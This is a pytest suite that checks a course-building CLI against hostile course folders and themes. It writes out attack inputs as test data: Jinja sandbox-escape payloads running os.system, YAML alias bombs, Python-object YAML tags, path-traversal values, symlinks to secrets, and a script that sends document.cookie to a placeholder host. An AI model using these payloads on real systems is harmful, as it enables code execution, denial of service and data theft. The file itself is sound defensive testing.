"""Hostile sources do no harm: each case is the tiny course (or its theme) changed as an attacker would.

A course folder arrives by e-mail, a theme from another organisation: `course check`, `build`, `package`
and `translate export` must stay safe on them. Every case copies `tests/fixtures/courses/tiny/` and the
plain theme into a temporary folder beside an `outside/` folder of secrets, applies its changes, runs
the real `course` command in a process of its own from the folder holding the course, and asserts:

- the exact exit status, and the exact lines the command prints on stderr (file:line:col, message, hint);
- that no command ran: a proof file the attack tries to create does not exist;
- that nothing from outside the course reached the output: no file of dist/ or of a zip holds the
  marker every secret carries, and neither does what the command printed;
- that the command finished within its budget: a process still running after BUDGET seconds is killed
  and the case fails (a hang guard, generous enough never to be flaky; the timings are in
  benchmarks/hostile.py).
"""
from __future__ import annotations

import os
import resource
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from test_broken_sources import PLAIN, TINY, Replace, Write, WriteBytes

MARKER = "SECRET-OUTSIDE-7f3a"  # in every file outside the course: it must reach no output
BUDGET = 30.0  # seconds a case may run before it counts as a hang (each takes well under one)
PROOF = "PROOF"  # the file the attacks try to create, in the folder the command runs from

INTRO = "modules/01-basics/01-intro.md"
CHECK = "modules/01-basics/03-check.quiz.yaml"
BASICS = "modules/01-basics/module.yaml"
WINDOW = "modules/02-practice/01-window.scenario.yaml"
FINAL = "modules/02-practice/02-final.quiz.yaml"
THEME = "../../themes/plain"  # the plain theme, as the course's own folder sees it

OUTSIDE_FILES = {
    "secret.md": f"---\ntitle: Secret\n---\n\n{MARKER}\n",
    "secret.yaml": f"- term: Secret\n  definition: {MARKER}\n",
    "course.yaml": f"id: secret\ntitle: {MARKER}\n",
    "secret.css": f"body {{ color: red; }} /* {MARKER} */\n",
    "secret.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><title>{MARKER}</title></svg>\n',
    "static/leak.txt": f"{MARKER}\n",
    "module/module.yaml": f"title: {MARKER}\n",
    "module/01-leak.md": f"---\ntitle: Leak\n---\n\n{MARKER}\n",
    "templates/course.html": f"<!DOCTYPE html><title>{MARKER}</title>\n",
    "locale.yaml": f"nav_next: {MARKER}\n",
}



# --- changes an attacker makes ------------------------------------------------------------------

@dataclass(frozen=True)
class Link:
    """A symbolic link in the course (or, with ../, in its theme) to `target` in the outside folder."""

    path: str
    target: str

    def apply(self, root: Path) -> None:
        link = root / self.path
        link.parent.mkdir(parents=True, exist_ok=True)
        if link.exists() or link.is_symlink():
            shutil.rmtree(link) if link.is_dir() and not link.is_symlink() else link.unlink()
        link.symlink_to(root.parent.parent / "outside" / self.target)


@dataclass(frozen=True)
class Big:
    """A file made of `head`, then `line` repeated until the file holds `size` bytes."""

    path: str
    head: str
    line: str
    size: int

    def apply(self, root: Path) -> None:
        count = (self.size - len(self.head)) // len(self.line) + 1
        (root / self.path).write_text(self.head + self.line * count, encoding="utf-8")


@dataclass(frozen=True)
class Template:
    """A course template (theme/templates/course.html) whose body is `body`."""

    body: str
    name: str = "course.html"

    def apply(self, root: Path) -> None:
        Write(f"theme/templates/{self.name}", f"<!DOCTYPE html>\n<title>t</title>\n{self.body}\n").apply(root)


@dataclass(frozen=True)
class Append:
    """Text added at the end of a file."""

    path: str
    text: str

    def apply(self, root: Path) -> None:
        with (root / self.path).open("a", encoding="utf-8") as file:
            file.write(self.text)


Patch = Replace | Write | WriteBytes | Link | Big | Template | Append


def bomb(levels: int = 9, indent: str = "") -> str:
    """The billion laughs: each anchor a list of nine aliases of the one before (9**9 values)."""
    lines = [f"{indent}a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for level in range(1, levels):
        lines.append(f"{indent}a{level}: &a{level} [" + ", ".join([f"*a{level - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def deep(count: int) -> str:
    return "[" * count + "]" * count


@dataclass(frozen=True)
class Case:
    id: str
    patches: tuple[Patch, ...]
    expect: tuple[str, ...]  # every line on stderr, the summary included
    command: tuple[str, ...] = ("check", "tiny")
    code: int = 1
    prebuild: bool = False  # build once before the changes: a failure must leave that dist/ as it was
    limit_file_bytes: int | None = None  # RLIMIT_FSIZE for the command: the disk refuses larger files
    after: Callable[[Path], None] | None = None  # more assertions on the folder the command ran from
    needs_mount: bool = False
    locked: bool = False  # after the prebuild, out/ is made immutable: even root may not write in it
    marks: tuple[pytest.MarkDecorator, ...] = field(default=())


def case(id: str, *patches: Patch, expect: str | tuple[str, ...], **options: object) -> Case:
    expected = (expect,) if isinstance(expect, str) else expect
    return Case(id, patches, expected, **options)  # type: ignore[arg-type]


def failed(*lines: str) -> tuple[str, ...]:
    """The issue lines, then the summary a failed check or build prints."""
    errors = sum(": error: " in line for line in lines)
    warnings = sum(": warning: " in line for line in lines)
    summary = f"build failed: {errors} error{'s' if errors != 1 else ''}"
    if warnings:
        summary += f", {warnings} warning{'s' if warnings != 1 else ''}"
    return (*lines, summary + "; nothing was written")


PLAIN_COURSE = "/PLAIN/templates/course.html"  # replaced by the theme's real path when the case runs
SANDBOX_HINT = "(a template lays out the course and runs no code; see docs/security.md)"


def stopped(line: int, reason: str, path: str = "tiny/theme/templates/course.html") -> tuple[str, ...]:
    return failed(f"{path}:{line}:1: error: template reaches for Python internals and was stopped: "
                  f"{reason} {SANDBOX_HINT}")


SOURCE_FILES = ("course.yaml", "frameworks.yaml", "glossary.yaml", INTRO, "modules/01-basics/02-more.md", CHECK,
                BASICS, WINDOW, FINAL, "modules/02-practice/module.yaml")


def not_translated(*but: str) -> tuple[str, ...]:
    """The warnings of a course with translations: [es] and no Spanish file (but those named)."""
    return tuple(f"tiny/{path}:1:1: warning: not translated into 'es' (the source text is used) "
                 f"(add translations/es/{path})" for path in SOURCE_FILES if path not in but)


def link_out(path: str) -> str:
    return (f"tiny/{path}:1:1: error: file is a link to a file outside the course folder "
            "(copy the file into the course folder instead of linking to it)")


def yaml_refused(path: str, line: int, col: int, message: str, hint: str) -> str:
    return f"tiny/{path}:{line}:{col}: error: {message} ({hint})"


ALIASES = ("YAML aliases here expand to more than 10,000 values",
           "write the values out, or use fewer anchors and aliases")
NESTED = ("YAML nested more than 100 levels deep", "write the content out flat; no course source needs this nesting")
OFFLINE_HINT = "put the file in the theme's static/ folder and name it relative to it"
RAW_HINT = "download the file into media/ and name it there; a link (<a href>) may point to the web"


SCRIPTED = ("raw HTML runs a script: the builder cannot check that it loads nothing from the network (remove the "
            "script if you can; --strict refuses it)")


def raw_html(line: int, url: str) -> str:
    return (f"tiny/{INTRO}:{line}:1: error: raw HTML loads {url} from the network; the course must work "
            f"offline ({RAW_HINT})")


ALLOW_HTML = Replace("course.yaml", "license: CC BY 4.0", "license: CC BY 4.0\nallow_html: true")
DEFAULT_THEME = Replace("course.yaml", f"theme: {THEME}\n", "theme: default\n")
INTRO_LINES = len((TINY / INTRO).read_text(encoding="utf-8").splitlines())


def raw(html: str) -> Append:
    """Raw HTML appended to the intro lesson after a blank line: it starts at line INTRO_LINES + 2."""
    return Append(INTRO, f"\n{html}\n")


def option(line: str) -> Replace:
    return Replace("course.yaml", '  accent: "#123456"', f'  accent: "#123456"\n{line}')


def has_no_scripts(folder: Path) -> None:
    handout = next((folder / "out").glob("*-handout.html")).read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" in handout  # the raw HTML is there, as the author wrote it...
    head = handout[:handout.index("</head>")]
    assert "script-src 'none'" in head  # ...and the browser is told to run no script in the document


def no_temporary_files(folder: Path) -> None:
    """No half-written zip or folder is left behind (the build's render cache may be)."""
    assert [p.name for p in (folder / "out").iterdir() if p.name.startswith(".") and ".zip" in p.name
            or ".new-" in p.name or ".old-" in p.name] == []


def nothing_escaped(folder: Path) -> None:
    assert not list(folder.parent.rglob("*ESCAPED*")), "a file was written outside the output folder"


CASES = [
    # --- 1. templates run in the sandbox ---------------------------------------------------------
    case("template-cycler-popen", Template("{{ cycler.__init__.__globals__.os.popen('id > PROOF').read() }}"),
         expect=stopped(3, "access to attribute '__init__' of 'StrictUndefined' object is unsafe")),
    case("template-str-class-mro", Template("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
         expect=stopped(3, "access to attribute '__class__' of 'str' object is unsafe")),
    case("template-self-globals", Template("{{ self.__init__.__globals__ }}"),
         expect=stopped(3, "access to attribute '__init__' of 'TemplateReference' object is unsafe")),
    case("template-range-globals", Template("{{ range.__call__.__self__.__dict__ }}"),
         expect=stopped(3, "access to attribute '__call__' of 'function' object is unsafe")),
    case("template-format-string", Template("{{ '{0.__class__.__base__.__subclasses__}'.format(site) }}"),
         expect=stopped(3, "access to attribute '__class__' of 'SiteView' object is unsafe")),
    case("template-context-attribute", Template("{{ site.__class__.__init__.__globals__['sys'] }}"),
         expect=stopped(3, "access to attribute '__init__' of 'StrictUndefined' object is unsafe")),
    case("template-mutates-a-list", Template("{% set seen = [] %}{{ seen.append(1) }}"),
         expect=stopped(3, "access to attribute 'append' of 'list' object is unsafe")),
    case("template-attr-filter", Template("{{ ''|attr('__class__') }}"),
         expect=failed("tiny/theme/templates/course.html:3:1: error: template error: No filter named 'attr'.")),
    case("template-lipsum-globals", Template("{{ lipsum.__globals__.os.system('touch PROOF') }}"),
         expect=failed("tiny/theme/templates/course.html:3:1: error: template error: 'lipsum' is undefined")),
    case("template-include-parent-folder", Template("{% include '../../../outside/templates/course.html' %}"),
         expect=failed("tiny/theme/templates/course.html:3:1: error: template "
                       "'../../../outside/templates/course.html' not found in the course's theme/templates/, "
                       "then theme 'plain' (add the template to one of their templates/ folders, or fix its name)")),
    case("template-linked-outside", Link("theme/templates/course.html", "templates/course.html"),
         expect=failed("tiny/theme/templates/course.html:1:1: error: template error: the template is a link to a "
                       "file outside its theme folder")),
    case("template-folder-linked-outside", Link("theme/templates", "templates"),
         expect=failed("tiny/theme/templates:1:1: error: a link to a file or folder outside the course folder "
                       "(copy it into the course folder instead of linking to it)")),
    case("template-in-shared-theme", Write("../../themes/plain/templates/question.html",
                                           "{{ cycler.__init__.__globals__.os.system('touch PROOF') }}\n"),
         expect=stopped(1, "access to attribute '__init__' of 'StrictUndefined' object is unsafe",
                        "TMP/themes/plain/templates/question.html")),
    case("template-in-the-handout", DEFAULT_THEME,
         Template("{{ cycler.__init__.__globals__.os.system('touch PROOF') }}", "documents/handout.html"),
         command=("build", "tiny", "--out", "out", "--facilitator"),
         expect=(*stopped(3, "access to attribute '__init__' of 'StrictUndefined' object is unsafe",
                          "tiny/theme/templates/documents/handout.html")[:-1],
                 "1 error: the web course was built, but no single-file edition, guide, handout or PDF was written")),
    case("template-in-shared-theme-build", Template("{{ ''.__class__ }}"), command=("build", "tiny", "--out", "out"),
         prebuild=True, expect=stopped(3, "access to attribute '__class__' of 'str' object is unsafe")),

    # --- 2. YAML within budgets --------------------------------------------------------------------
    case("yaml-bomb-top-level-course", Write("course.yaml", bomb() + "id: x\ntitle: X\n"),
         expect=failed(yaml_refused("course.yaml", 5, 5, *ALIASES))),
    case("yaml-bomb-in-glossary", Write("glossary.yaml", "- term: Laugh\n  definition: x\n  anchors:\n"
                                        + bomb(9, "    ") + "- term: Again\n  definition: *a8\n"),
         expect=failed(yaml_refused("glossary.yaml", 8, 9, *ALIASES))),
    case("yaml-bomb-lesson-front-matter", Replace(INTRO, "summary: The words of the course.\n",
                                                  "summary: The words of the course.\n" + bomb()),
         expect=failed(yaml_refused(INTRO, 11, 5, *ALIASES))),
    case("yaml-bomb-quiz", Replace(FINAL, "duration: 5\n", "duration: 5\n" + bomb()),
         expect=failed(yaml_refused(FINAL, 13, 5, *ALIASES))),
    case("yaml-bomb-module", Write(BASICS, "title: Basics\n" + bomb()),
         expect=failed(yaml_refused(BASICS, 6, 5, *ALIASES))),
    case("yaml-bomb-frameworks", Write("frameworks.yaml", "- " + bomb(9, "  ").lstrip()),
         expect=failed(yaml_refused("frameworks.yaml", 5, 7, *ALIASES))),
    case("yaml-bomb-scenario", Replace(WINDOW, "title:", bomb() + "title:"),
         expect=failed(yaml_refused(WINDOW, 5, 5, *ALIASES))),
    case("yaml-recursive-alias", Replace("course.yaml", "authors: [Test author]", "authors: &me [*me]"),
         expect=failed(yaml_refused("course.yaml", 7, 10, "a YAML alias refers to the value that contains it",
                                    "write the value out; course sources cannot be recursive"))),
    case("yaml-deep-flow-nesting", Write("glossary.yaml", "- term: Deep\n  definition: " + deep(200_000) + "\n"),
         expect=failed(yaml_refused("glossary.yaml", 2, 115, *NESTED))),
    case("yaml-deep-block-nesting", Write("glossary.yaml", "- term: Deep\n  definition:\n"
                                          + "".join(" " * (4 + 2 * i) + "-\n" for i in range(1500))),
         expect=failed(yaml_refused("glossary.yaml", 101, 201, *NESTED))),
    case("yaml-file-too-large", Big("glossary.yaml", "- term: Big\n  definition: >\n", "    lol lol lol lol lol\n",
                               4_100_000),
         expect=failed("tiny/glossary.yaml:1:1: error: file is larger than 4 MB (split it into several pages; put "
                       "large media in media/ and link to it)")),
    case("yaml-python-object-tag", Replace("course.yaml", "title: Tiny Course",
                                           "title: !!python/object/apply:os.system ['touch PROOF']"),
         expect=failed("tiny/course.yaml:2:8: error: YAML syntax error: could not determine a constructor for "
                       "the tag 'tag:yaml.org,2002:python/object/apply:os.system'")),
    case("yaml-python-name-tag", Replace(INTRO, "title: Introduction", "title: !!python/name:os.system"),
         expect=failed(f"tiny/{INTRO}:2:8: error: YAML syntax error: could not determine a constructor for the "
                       "tag 'tag:yaml.org,2002:python/name:os.system'")),
    case("yaml-merge-key-scalar", Replace("course.yaml", "completion:\n", "completion:\n  <<: 5\n"),
         expect=failed("tiny/course.yaml:14:7: error: YAML syntax error: expected a mapping or list of mappings "
                       "for merging, but found scalar")),
    case("yaml-bomb-in-theme-yaml", Write("../../themes/plain/theme.yaml",
                                         "name: plain\nextends: null\n" + bomb().replace("a", "x")),
         expect=failed("TMP/themes/plain/theme.yaml:7:5: error: YAML aliases here expand to more than 10,000 "
                       "values (write the values out, or use fewer anchors and aliases)")),
    case("yaml-bomb-in-theme-locale", Write("../../themes/plain/locales/en.yaml", bomb()),
         expect=failed("TMP/themes/plain/locales/en.yaml:5:5: error: YAML aliases here expand to more than 10,000 "
                       "values (write the values out, or use fewer anchors and aliases)")),

    # --- 3. values that reach file names -----------------------------------------------------------
    case("version-escapes-out", Replace("course.yaml", 'version: "1.0.0"', 'version: "../../../ESCAPED"'),
         command=("package", "tiny", "--out", "out"), after=nothing_escaped,
         expect=failed("tiny/course.yaml:6:10: error: 'version' must be a version made of letters and digits "
                       "joined by dots, hyphens, underscores or plus signs, such as 1.0.2, got '../../../ESCAPED' "
                       "(it becomes part of file names: try 'ESCAPED')")),
    case("version-escapes-xliff", Replace("course.yaml", 'version: "1.0.0"', 'version: "../../../ESCAPED"'),
         command=("translate", "export", "tiny", "--lang", "es", "--out", "out"), after=nothing_escaped,
         expect=failed("tiny/course.yaml:6:10: error: 'version' must be a version made of letters and digits "
                       "joined by dots, hyphens, underscores or plus signs, such as 1.0.2, got '../../../ESCAPED' "
                       "(it becomes part of file names: try 'ESCAPED')")),
    case("version-with-slash", Replace("course.yaml", 'version: "1.0.0"', 'version: "2024/25"'),
         command=("build", "tiny", "--out", "out", "--single-file", "--facilitator"),
         expect=failed("tiny/course.yaml:6:10: error: 'version' must be a version made of letters and digits "
                       "joined by dots, hyphens, underscores or plus signs, such as 1.0.2, got '2024/25' "
                       "(it becomes part of file names: try '2024-25')")),
    case("version-too-long", Replace("course.yaml", 'version: "1.0.0"', f'version: "{"9" * 41}"'),
         expect=failed("tiny/course.yaml:6:10: error: 'version' must be at most 40 characters long, got 41")),
    case("language-is-a-path", Replace("course.yaml", "language: en", 'language: "../../../outside/locale"'),
         expect=failed("tiny/course.yaml:5:11: error: 'language' must be a language tag such as en, es or pt-BR, "
                       "got '../../../outside/locale'")),
    case("translation-is-a-path", Replace("course.yaml", "language: en", "language: en\ntranslations: [../../x]"),
         expect=failed("tiny/course.yaml:6:16: error: item 1 of 'translations' must be a language tag such as en, "
                       "es or pt-BR, got '../../x'")),
    case("course-id-is-a-path", Replace("course.yaml", "id: tiny-course", "id: ../../x"),
         expect=failed("tiny/course.yaml:1:5: error: 'id' must be a slug (lower-case letters, digits and hyphens), "
                       "got '../../x' (try 'x')")),

    # --- 4. links never lead out --------------------------------------------------------------------
    case("lesson-linked-outside", Link("modules/01-basics/04-secret.md", "secret.md"),
         command=("package", "tiny", "--out", "out"),
         expect=failed(link_out("modules/01-basics/04-secret.md"))),
    case("glossary-linked-outside", Link("glossary.yaml", "secret.yaml"),
         expect=failed(link_out("glossary.yaml"))),
    case("module-yaml-linked-outside", Link(BASICS, "module/module.yaml"), expect=failed(link_out(BASICS))),
    case("module-folder-linked-outside", Link("modules/03-leak", "module"),
         expect=failed(link_out("modules/03-leak/01-leak.md"), link_out("modules/03-leak/module.yaml"))),
    case("brand-css-linked-outside", Link("theme/brand.css", "secret.css"), command=("build", "tiny", "--out", "out"),
         expect=failed("tiny/theme/brand.css:1:1: error: a link to a file or folder outside the course folder "
                       "(copy it into the course folder instead of linking to it)")),
    case("theme-static-linked-outside", Link("../../themes/plain/static", "static"),
         command=("package", "tiny", "--out", "out"),
         expect=failed("TMP/themes/plain/theme.yaml:1:1: error: plain/static/ is a link to a folder outside the "
                       "theme (copy the files into the theme's static/ folder)")),
    case("theme-static-file-linked-outside", Link("../../themes/plain/static/leak.txt", "static/leak.txt"),
         command=("build", "tiny", "--out", "out"),
         expect=failed("TMP/themes/plain/static/leak.txt:1:1: error: theme file 'static/leak.txt' is a link to a "
                       "file outside the theme (copy the file into the theme instead of linking to it)")),
    case("theme-stylesheet-linked-outside", Link("../../themes/plain/css/plain.css", "secret.css"),
         command=("build", "tiny", "--out", "out"),
         expect=failed("TMP/themes/plain/theme.yaml:5:5: error: theme file 'css/plain.css' not found in plain/ "
                       "(paths in stylesheets and scripts are relative to the theme folder)")),
    case("theme-yaml-linked-outside", Link("../../themes/plain/theme.yaml", "secret.yaml"),
         expect=failed("TMP/themes/plain/theme.yaml:1:1: error: theme.yaml is a link to a file outside the theme "
                       "folder (copy the file into the theme instead of linking to it)")),
    case("theme-locale-linked-outside", Link("../../themes/plain/locales/en.yaml", "locale.yaml"),
         expect=failed("TMP/themes/plain/locales/en.yaml:1:1: error: a link to a file outside the theme folder "
                       "(copy the file into the theme instead of linking to it)")),
    case("translation-linked-outside", Replace("course.yaml", "language: en", "language: en\ntranslations: [es]"),
         Link("translations/es/glossary.yaml", "secret.yaml"),
         expect=failed(*not_translated("glossary.yaml"), link_out("translations/es/glossary.yaml"),
                       "tiny/translations/es/glossary.yaml:1:1: warning: no record of which source version this 'es' "
                       "translation follows (once it is up to date, run 'course translate mark --lang es "
                       "glossary.yaml')")),
    case("translation-manifest-bomb", Replace("course.yaml", "language: en", "language: en\ntranslations: [es]"),
         Write("translations/es/translation.yaml", "files:\n" + bomb(9, "  ")),
         code=0, expect=not_translated()),  # the record is unreadable: as if there were none
    case("media-linked-outside", Link("media/diagram.svg", "secret.svg"), command=("build", "tiny", "--out", "out"),
         expect=failed(f"tiny/{INTRO}:16:1: error: media file '../../media/diagram.svg' not found: the path leads "
                       "outside the course folder (put media under course_src/media/ and give a path relative to "
                       "the file)")),
    case("media-path-outside", Replace(INTRO, "../../media/diagram.svg", "../../../../outside/secret.svg"),
         expect=failed(f"tiny/{INTRO}:16:1: error: media file '../../../../outside/secret.svg' not found: the path "
                       "leads outside the course folder (put media under course_src/media/ and give a path "
                       "relative to the file)")),
    case("linked-file-outside", Replace(INTRO, "[more details](02-more.md#details)",
                                        "[more details](../../../../outside/secret.svg)"),
         expect=failed(f"tiny/{INTRO}:18:6: error: linked file '../../../../outside/secret.svg' not found: the "
                       "path leads outside the course folder (put the file in the course folder, e.g. in media/, "
                       "and give a path relative to the lesson)")),
    case("logo-linked-outside", option("  logo: media/logo.svg"), Link("media/logo.svg", "secret.svg"),
         DEFAULT_THEME, expect=failed("tiny/course.yaml:13:9: error: logo 'media/logo.svg' not found: the path "
                                      "leads outside the course folder (give a path relative to the course folder, "
                                      "e.g. media/logo.svg)")),

    # --- 5. the disk says no --------------------------------------------------------------------------
    # (`--clean` where nothing changed: a build otherwise finds every file as it would write it, and writes none)
    case("disk-refuses-large-files", command=("build", "tiny", "--out", "out", "--clean"), prebuild=True,
         limit_file_bytes=4096,
         expect=("error: out/web/index.html: File too large (a file grew past the size this system allows: free "
                 "some space or give another --out); what was written before is left as it was",)),
    case("disk-refuses-large-files-on-update",  # a build that rewrites only the changed files, in place
         Replace("course.yaml", "Two modules that", "Two small modules that"),
         command=("build", "tiny", "--out", "out"), prebuild=True, limit_file_bytes=4096,
         expect=("error: out/web/index.html: File too large (a file grew past the size this system allows: free "
                 "some space or give another --out); what was written before is left as it was",)),
    case("disk-refuses-the-zip", command=("package", "tiny", "--out", "out"), limit_file_bytes=20_000,
         after=no_temporary_files,
         expect=("error: out/tiny-course-1.0.0-scorm2004.zip: File too large (a file grew past the size this system "
                 "allows: free some space or give another --out); what was written before is left as it was",)),
    case("disk-full", command=("build", "tiny", "--out", "out", "--clean"), prebuild=True, needs_mount=True,
         expect=("error: out/web/assets/search-index.js: No space left on device (free some space on the disk, or give "
                 "another --out); what was written before is left as it was",)),
    case("read-only-file-system", command=("build", "tiny", "--out", "out", "--clean"), prebuild=True, needs_mount=True,
         expect=("error: out/web: Read-only file system (that file system is read-only: give another --out); what "
                 "was written before is left as it was",)),
    case("output-folder-not-writable", command=("build", "tiny", "--out", "out", "--clean"), prebuild=True, locked=True,
         expect=("error: out/web: Operation not permitted (you may not write there: give another --out, or change "
                 "the folder's permissions); what was written before is left as it was",)),
    case("output-is-a-file", Write("../out", "a file"), command=("build", "tiny", "--out", "out"),
         expect=("Error: out is a file, not a folder: give another --out",)),
    case("user-file-in-output", Write("../out/web/notes.txt", "my notes"), command=("build", "tiny", "--out", "out"),
         prebuild=True, expect=("Error: out/web holds files the build did not write: notes.txt. The build replaces "
                                "the whole folder: move them elsewhere (or delete them), or give another --out; "
                                "nothing was changed",)),

    # --- 6. offline: options, stylesheets, raw HTML, templates ---------------------------------------
    case("font-option-fetches", DEFAULT_THEME,
         option("  font: 'x; background-image: url(https://tracker.example/p.png)'"),
         expect=failed("tiny/course.yaml:13:9: error: theme option 'font' must be a list of font names such as "
                       "'Georgia, serif', not 'x; background-image: url(https://tracker.example/p.png)' (font names "
                       "separated by commas; put names with spaces in quotes)")),
    case("width-option-fetches", DEFAULT_THEME,
         option("  max_width: '1px; background: url(//t.example)'"),
         expect=failed("tiny/course.yaml:13:14: error: theme option 'max_width' must be a length such as '35rem', "
                       "not '1px; background: url(//t.example)' (a number with a unit: px, rem, em, ch or %)")),
    case("text-option-with-url", DEFAULT_THEME,
         option("  logo_alt: 'image-set(\"https://t.example\")'"),
         expect=failed("tiny/course.yaml:13:13: error: theme option 'logo_alt' must not contain URLs, url(), "
                       "@import or backslashes (the course works offline: put files in the course folder and name "
                       "them in the theme)")),
    case("theme-default-option-fetches", Replace("../../themes/plain/theme.yaml", "  compact: false",
                                                 "  compact: false\n  font: 'x; src: url(https://t.example)'"),
         expect=failed("TMP/themes/plain/theme.yaml:11:9: error: option 'font' must be a list of font names such as "
                       "'Georgia, serif', not 'x; src: url(https://t.example)' (font names separated by commas; "
                       "put names with spaces in quotes)")),
    case("theme-css-http-url", Write("../../themes/plain/css/plain.css",
                                     "body {\n  background: url(https://tracker.example/a.png);\n}\n"),
         expect=failed("TMP/themes/plain/css/plain.css:2:15: error: url 'https://tracker.example/a.png' in a "
                       f"stylesheet is not a file of the theme; the course must work offline ({OFFLINE_HINT}, "
                       "e.g. url(fonts/serif.woff2))")),
    case("theme-css-protocol-relative", Write("../../themes/plain/css/plain.css",
                                              "@font-face { src: url('//fonts.example/a.woff2'); }\n"),
         expect=failed("TMP/themes/plain/css/plain.css:1:19: error: url '//fonts.example/a.woff2' in a stylesheet is "
                       f"not a file of the theme; the course must work offline ({OFFLINE_HINT}, "
                       "e.g. url(fonts/serif.woff2))")),
    case("brand-css-import", Write("theme/brand.css", "@import 'https://t.example/x.css';\n"),
         expect=failed("tiny/theme/brand.css:1:1: error: @import in a stylesheet (list every stylesheet in "
                       "theme.yaml's stylesheets, or put it in the course's theme/ folder)")),
    case("brand-css-leads-out", Write("theme/brand.css", "a { background: url(../../../outside/secret.svg) }\n"),
         expect=failed("tiny/theme/brand.css:1:17: error: url '../../../outside/secret.svg' in a stylesheet leads "
                       f"outside the theme ({OFFLINE_HINT})")),
    case("brand-css-image-set", Write("theme/brand.css", 'a { background: image-set("https://t.example/a.png" 1x) }\n'),
         expect=failed("tiny/theme/brand.css:1:27: error: url 'https://t.example/a.png' in a stylesheet is not a "
                       f"file of the theme; the course must work offline ({OFFLINE_HINT}, "
                       "e.g. url(fonts/serif.woff2))")),
    case("brand-css-absolute-path", Write("theme/brand.css", "a { background: url(/etc/passwd) }\n"),
         expect=failed("tiny/theme/brand.css:1:17: error: url '/etc/passwd' in a stylesheet is not a file of the "
                       f"theme; the course must work offline ({OFFLINE_HINT}, e.g. url(fonts/serif.woff2))")),
    case("raw-html-img", ALLOW_HTML, raw('<img src="https://tracker.example/p.png" alt="">'),
         expect=failed(raw_html(INTRO_LINES + 2, "'https://tracker.example/p.png'"))),
    case("raw-html-iframe", ALLOW_HTML, raw('<iframe src="//evil.example/x"></iframe>'),
         expect=failed(raw_html(INTRO_LINES + 2, "'//evil.example/x'"))),
    case("raw-html-srcset", ALLOW_HTML, raw('<p><img srcset="a.png 1x, https://e.example/b.png 2x" alt=""></p>'),
         expect=failed(raw_html(INTRO_LINES + 2, "'https://e.example/b.png'"))),
    case("raw-html-stylesheet", ALLOW_HTML, raw('<link rel="stylesheet" href="https://e.example/a.css">'),
         expect=failed(raw_html(INTRO_LINES + 2, "'https://e.example/a.css'"))),
    case("raw-html-style-import", ALLOW_HTML, raw("<style>@import url(https://e.example/a.css);</style>"),
         expect=failed(raw_html(INTRO_LINES + 2, "'https://e.example/a.css'"),
                       raw_html(INTRO_LINES + 2, "@import in a <style>"))),
    case("raw-html-inline-style-url", ALLOW_HTML,
         raw('<div style="background:url(https://e.example/p.png)">x</div>'),
         expect=failed(raw_html(INTRO_LINES + 2, "'https://e.example/p.png'"))),
    case("raw-html-video-poster", ALLOW_HTML, raw('<video poster="https://e.example/p.png"></video>'),
         expect=failed(raw_html(INTRO_LINES + 2, "'https://e.example/p.png'"))),
    case("raw-html-meta-refresh", ALLOW_HTML, raw('<meta http-equiv="refresh" content="0; url=https://e.example/">'),
         expect=failed(raw_html(INTRO_LINES + 2, "'https://e.example/'"))),
    case("raw-html-link-is-fine", ALLOW_HTML, raw('<a href="https://example.org/">a page on the web</a>'),
         code=0, expect=()),
    case("raw-html-script-strict", ALLOW_HTML, raw('<script>fetch("https://t.example/?" + document.cookie)</script>'),
         command=("check", "tiny", "--strict"),
         expect=failed(f"tiny/{INTRO}:{INTRO_LINES + 2}:1: error: {SCRIPTED}")),
    case("raw-html-event-handler-strict", ALLOW_HTML, raw('<p>x <img src="x.png" onerror="fetch(1)"></p>'),
         command=("check", "tiny", "--strict"),
         expect=failed(f"tiny/{INTRO}:{INTRO_LINES + 2}:1: error: {SCRIPTED}")),
    case("template-loads-script", Template('<script src="https://cdn.example/x.js"></script>'),
         expect=failed("tiny/theme/templates/course.html:1:1: error: the generated page loads "
                       "'https://cdn.example/x.js' from the network (line 3, column 9 of the page); the course must "
                       "work offline (a template or raw HTML names it: put the file in the theme or the course "
                       "folder)")),
    case("svg-image-fetches-when-opened",
         Write("media/diagram.svg", '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://t.example/p.png"/>'
                                    '<a href="https://example.org/"><text>a link is fine</text></a></svg>\n'),
         expect=failed(f"tiny/{INTRO}:16:1: error: media file '../../media/diagram.svg' loads "
                       "'https://t.example/p.png' from the network when it is opened; the course must work offline "
                       "(remove that reference from the file, or put what it names in the course folder and name it "
                       "relative to the file)")),
    case("linked-page-fetches-when-opened", Write("media/page.html", '<p><img src="//t.example/p.png" alt=""></p>\n'),
         Replace(INTRO, "[more details](02-more.md#details)", "[more details](../../media/page.html)"),
         expect=failed(f"tiny/{INTRO}:18:6: error: linked file '../../media/page.html' loads '//t.example/p.png' "
                       "from the network when it is opened; the course must work offline (remove that reference "
                       "from the file, or put what it names in the course folder and name it relative to the file)")),
    case("markdown-image-on-the-network", Replace(INTRO, "../../media/diagram.svg", "https://t.example/p.png"),
         expect=failed(f"tiny/{INTRO}:16:1: error: 'https://t.example/p.png' is on the network; the course must "
                       "work offline (download the file into media/ and link to it there)")),

    # --- 7. the handout runs no script -------------------------------------------------------------
    case("handout-runs-no-script", ALLOW_HTML, DEFAULT_THEME, raw("<script>alert(1)</script>"),
         command=("build", "tiny", "--out", "out", "--facilitator"), code=0, after=has_no_scripts,
         expect=(f"tiny/{INTRO}:{INTRO_LINES + 2}:1: warning: {SCRIPTED}",)),

    # --- 9. size guard --------------------------------------------------------------------------------
    case("huge-lesson", Big(INTRO, "---\ntitle: Huge\n---\n\n", "A line of a very long lesson.\n", 50_000_000),
         command=("build", "tiny", "--out", "out"),
         expect=failed(f"tiny/{INTRO}:1:1: error: file is larger than 4 MB (split it into several pages; put large "
                       "media in media/ and link to it)")),

    # --- 10. smaller things ---------------------------------------------------------------------------
    case("nul-in-title", Replace(INTRO, "title: Introduction", "title: Intro\x00duction"),
         expect=failed(f"tiny/{INTRO}:2:13: error: control character U+0000 in the text (delete it: it is not "
                       "text, and browsers show it as a box or drop it)")),
    case("escape-character-in-quiz", Replace(FINAL, "prompt: A referral", "prompt: \x1bA referral"),
         expect=failed(f"tiny/{FINAL}:12:13: error: control character U+001B in the text (delete it: it is not "
                       "text, and browsers show it as a box or drop it)")),
